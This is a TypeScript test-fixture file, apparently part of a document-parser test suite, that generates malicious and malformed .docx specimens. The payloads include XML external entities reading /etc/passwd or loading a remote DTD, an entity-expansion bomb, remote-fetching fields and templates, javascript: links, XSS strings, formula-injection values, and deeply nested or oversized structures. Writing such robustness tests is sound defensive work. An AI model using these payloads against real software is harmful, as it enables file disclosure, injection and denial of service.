import { docxOf, p, tbl, tc, tr } from "../support/office.ts";
import { type Specimen, specimen, WRONG_ROWS } from "./specimen.ts";

const table = (words: { readonly [label: string]: string } = {}): string =>
  tbl(...WRONG_ROWS.map((line) => tr(line.map((text) => tc(words[text] ?? text)))));

const link = (id: string, type: string, target: string): string =>
  `<Relationship Id="${id}" TargetMode="External" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"/>`;
const links = (...all: readonly string[]): string =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${all.join("")}</Relationships>`;
const WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const nestedTables = (depth: number): string =>
  `${"<w:tbl><w:tr><w:tc>".repeat(depth)}${p("1")}${"<w:p/></w:tc></w:tr></w:tbl>".repeat(depth)}`;
const laughs = Array.from({ length: 9 }, (_, level) => `<!ENTITY e${level + 1} "${`&e${level};`.repeat(10)}">`).join("");
const declared = (declarations: string, text: string): string =>
  `<?xml version="1.0"?><!DOCTYPE w [${declarations}]><w:document ${WORD}><w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:body></w:document>`;

/** Word documents whose parts are well packed and say absurd things. */
export function documents(): Specimen[] {
  const document = (name: string, body: string, parts = {}): Specimen =>
    specimen("document", `${name}.docx`, docxOf(`${table()}${body}`, parts));
  const whole = (name: string, xml: string): Specimen => specimen("document", `${name}.docx`, docxOf("", { "word/document.xml": xml }));
  const numbering = (content: string): { readonly [name: string]: string } => ({
    "word/numbering.xml": `<w:numbering ${WORD}>${content}</w:numbering>`,
    "word/_rels/document.xml.rels":
      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="x/numbering" Target="numbering.xml"/></Relationships>',
  });
  return [
    document("nested-tables", nestedTables(3000)),
    document("nested-controls", `${"<w:sdt><w:sdtContent>".repeat(5000)}${p("1")}${"</w:sdtContent></w:sdt>".repeat(5000)}`),
    document(
      "nested-boxes",
      `<w:p>${"<w:r><w:pict><v:textbox><w:txbxContent><w:p>".repeat(1500)}${"</w:p></w:txbxContent></v:textbox></w:pict></w:r>".repeat(1500)}</w:p>`,
    ),
    document("span-without-end", tbl(tr([tc("1", '<w:gridSpan w:val="1000000000"/>')]), tr([tc("2", '<w:gridSpan w:val="-7"/>')]))),
    document("spans-multiplied", tbl(...Array.from({ length: 3000 }, () => tr([tc("1", '<w:gridSpan w:val="9000"/>')])))),
    document("grid-before", tbl(tr([tc("1")], '<w:gridBefore w:val="2000000000"/>'))),
    document(
      "merged-without-start",
      tbl(...Array.from({ length: 2000 }, () => tr([tc("", "<w:vMerge/>"), tc("1", '<w:vMerge w:val="restart"/>')]))),
    ),
    document("wide-table", tbl(tr(Array.from({ length: 20_000 }, (_, n) => tc(`${n}`))))),
    document("thousands-of-tables", tbl(tr([tc("1"), tc("2")])).repeat(3000)),
    document("long-paragraph", p(`支出${"一".repeat(1_000_000)}万元`)),
    document("long-number", p(`基金支出${"9".repeat(300_000)}万元，收入0.${"3".repeat(300_000)}万元。`)),
    document("long-numeral", p(`基金支出${"亿万".repeat(100_000)}元，比上年增加${"十".repeat(100_000)}。`)),
    document("many-marks", p("，其中：".repeat(60_000))),
    document("many-brackets", p(`${"（".repeat(60_000)}1${"）".repeat(60_000)}`)),
    document("open-fields", p("").replace("<w:r>", '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r>').repeat(2000)),
    document(
      "fetching-field",
      '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDETEXT "http://198.51.100.1/x.docx"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    ),
    document("lone-surrogate", "<w:p><w:r><w:t>&#xD800;</w:t></w:r></w:p>"),
    document("control-character", "<w:p><w:r><w:t>&#0;&#27;[31m</w:t></w:r></w:p>"),
    document(
      "numbering-loop",
      p("a", '<w:numPr><w:ilvl w:val="99"/><w:numId w:val="1"/></w:numPr>').repeat(20),
      numbering(
        '<w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num><w:abstractNum w:abstractNumId="1"><w:numStyleLink w:val="s"/><w:styleLink w:val="s"/><w:lvl w:ilvl="99"><w:start w:val="999999999999"/><w:numFmt w:val="chineseCounting"/><w:lvlText w:val="%1%2%3%4%5%6%7%8%9"/></w:lvl></w:abstractNum>',
      ),
    ),
    document(
      "numbering-of-a-billion",
      p("a", '<w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr>').repeat(20),
      numbering(
        '<w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num><w:abstractNum w:abstractNumId="1"><w:lvl w:ilvl="0"><w:start w:val="999999999"/><w:numFmt w:val="upperRoman"/><w:lvlText w:val="%1."/></w:lvl></w:abstractNum>',
      ),
    ),
    document(
      "outside-links",
      `<w:p><w:hyperlink r:id="r1"><w:r><w:t>a</w:t></w:r></w:hyperlink><w:hyperlink r:id="r2"><w:r><w:t>b</w:t></w:r></w:hyperlink></w:p>`,
      {
        "word/_rels/document.xml.rels": links(
          link("r1", "hyperlink", "javascript:alert(1)"),
          link("r2", "hyperlink", "file:///etc/passwd"),
          link("r3", "image", "http://198.51.100.1/x.png"),
          link("r4", "attachedTemplate", "http://198.51.100.1/x.dotm"),
        ),
      },
    ),
    document(
      "outside-image",
      `<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="r1"/></w:drawing></w:r></w:p>`,
      {
        "word/_rels/document.xml.rels": links(link("r1", "image", "http://198.51.100.1/x.png")),
      },
    ),
    document("outside-styles", p("a"), {
      "word/_rels/document.xml.rels": links(
        link("r1", "styles", "http://198.51.100.1/styles.xml"),
        link("r2", "numbering", "file:///etc/passwd"),
      ),
    }),
    whole("entity", declared('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;")),
    whole("entity-from-net", declared('<!ENTITY % x SYSTEM "http://198.51.100.1/x.dtd">%x;', "a")),
    whole("entity-bomb", declared(`<!ENTITY e0 "十">${laughs}`, "&e9;")),
    whole("unclosed", `<w:document ${WORD}><w:body>${table()}<w:p><w:r><w:t>合计`),
    whole("wrong-encoding", `<?xml version="1.0" encoding="UTF-16"?><w:document ${WORD}><w:body>${table()}</w:body></w:document>`),
    whole("not-a-document", "<html><body>1</body></html>"),
    whole("deep", `<w:document ${WORD}><w:body>${"<w:x>".repeat(100_000)}${"</w:x>".repeat(100_000)}`),
    specimen(
      "document",
      "script.docx",
      docxOf(
        table({ 甲: "&lt;script&gt;alert(1)&lt;/script&gt;", 乙: "&quot; onmouseover=&quot;alert(1)", 丙: "javascript:alert(1)" }) +
          p("&lt;iframe src=//198.51.100.1&gt;"),
      ),
    ),
    specimen("document", "formula-like.docx", docxOf(table({ 甲: "=1+1", 乙: "@SUM(1)", 丙: "\t=2", 单位: "+3" }))),
  ];
}
